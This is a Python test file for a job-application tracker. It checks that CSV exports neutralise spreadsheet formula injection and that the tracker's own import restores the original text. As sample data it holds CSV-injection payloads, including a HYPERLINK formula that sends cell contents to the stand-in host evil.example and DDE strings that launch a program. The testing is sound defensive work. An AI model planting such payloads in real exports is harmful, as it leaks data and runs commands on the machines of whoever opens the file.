"""CSV exports are safe to open in a spreadsheet: cells that would run as a formula are
neutralised (OWASP's rule), and followup's import reads them back exactly."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st

from followup import Contact, Engine, FakeClock, MemoryStore
from followup.interop.export import neutralise_cell, restore_cell
from followup.interop.readers import Context, read_csv
from followup.interop.transfer import csv_table, export_document, import_items

NOW = datetime(2027, 2, 1, 15, tzinfo=UTC)
HOSTILE_COMPANY = '=HYPERLINK("http://evil.example/?"&A1,"Acme")'
HOSTILE_CONTACT = "=cmd|' -C calc'!A0"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _engine() -> Engine:
    engine = Engine(store=MemoryStore(), clock=FakeClock(NOW), channels=[])
    engine.set_owner("ada", timezone="America/New_York", country="US")
    return engine


def _hostile() -> Engine:
    engine = _engine()
    engine.add_application(
        owner="ada", company=HOSTILE_COMPANY, role="@SUM(1+1)*cmd|' /C calc'!A0",
        id="acme", facts={"interviewed_at": "2027-01-28T10:00", "why_me": "-2+3"},
        contacts=[Contact(HOSTILE_CONTACT, "interviewer", title="+1 555 0100",
                          phone="+1 555 0100", note="\tTab first"),
                  Contact("'=already quoted", "reference", title="'plain")])
    return engine


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _first_chars(tables: dict[str, str]) -> set[str]:
    return {cell[:1] for text in tables.values() for row in _cells(text)[1:] for cell in row}


def test_no_exported_cell_starts_like_a_formula() -> None:
    doc = export_document(_hostile(), "ada")
    tables = {t: csv_table(doc, t) for t in ("applications", "contacts", "history")}
    assert not _first_chars(tables) & set(FORMULA_STARTS)
    apps = _cells(tables["applications"])
    header, row = apps[0], apps[1]
    assert row[header.index("company")] == "'" + HOSTILE_COMPANY
    assert row[header.index("fact:why_me")] == "'-2+3"
    contacts = _cells(tables["contacts"])
    names = [r[contacts[0].index("name")] for r in contacts[1:]]
    assert names == ["'" + HOSTILE_CONTACT, "''=already quoted"]
    titles = [r[contacts[0].index("title")] for r in contacts[1:]]
    assert titles == ["'+1 555 0100", "'plain"]  # a quote not before a formula stays one


def test_raw_writes_every_cell_as_it_is() -> None:
    doc = export_document(_hostile(), "ada")
    apps = _cells(csv_table(doc, "applications", raw=True))
    assert apps[1][apps[0].index("company")] == HOSTILE_COMPANY
    contacts = _cells(csv_table(doc, "contacts", raw=True))
    assert contacts[1][contacts[0].index("name")] == HOSTILE_CONTACT


def test_our_own_export_reads_back_to_the_original_text() -> None:
    source = _hostile()
    doc = export_document(source, "ada")
    tables = {t: csv_table(doc, t).encode() for t in ("applications", "contacts", "history")}
    target = _engine()
    context = Context(pack=target.pack, owner="ada", calendar=target.calendar("ada"), now=NOW)
    items = read_csv(tables["applications"], "apps.csv", context,
                     contacts=tables["contacts"], contacts_source="contacts.csv",
                     history=tables["history"], history_source="history.csv")
    import_items(target, items, owner="ada")
    (app,) = target.applications(owner="ada")
    assert app.company == HOSTILE_COMPANY
    assert app.role == "@SUM(1+1)*cmd|' /C calc'!A0"
    assert app.facts["why_me"] == "-2+3"
    assert [(c.name, c.title, c.phone, c.note) for c in app.contacts] == [
        (HOSTILE_CONTACT, "+1 555 0100", "+1 555 0100", "\tTab first"),
        ("'=already quoted", "'plain", "", "")]


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_each_formula_start_is_neutralised(start: str) -> None:
    assert neutralise_cell(start + "1+1") == "'" + start + "1+1"
    assert neutralise_cell("''" + start) == "'''" + start
    assert restore_cell(neutralise_cell(start + "x")) == start + "x"


@given(st.text())
def test_neutralising_is_undone_exactly_and_leaves_no_formula(text: str) -> None:
    cell = neutralise_cell(text)
    assert cell[:1] not in FORMULA_STARTS
    assert restore_cell(cell) == text
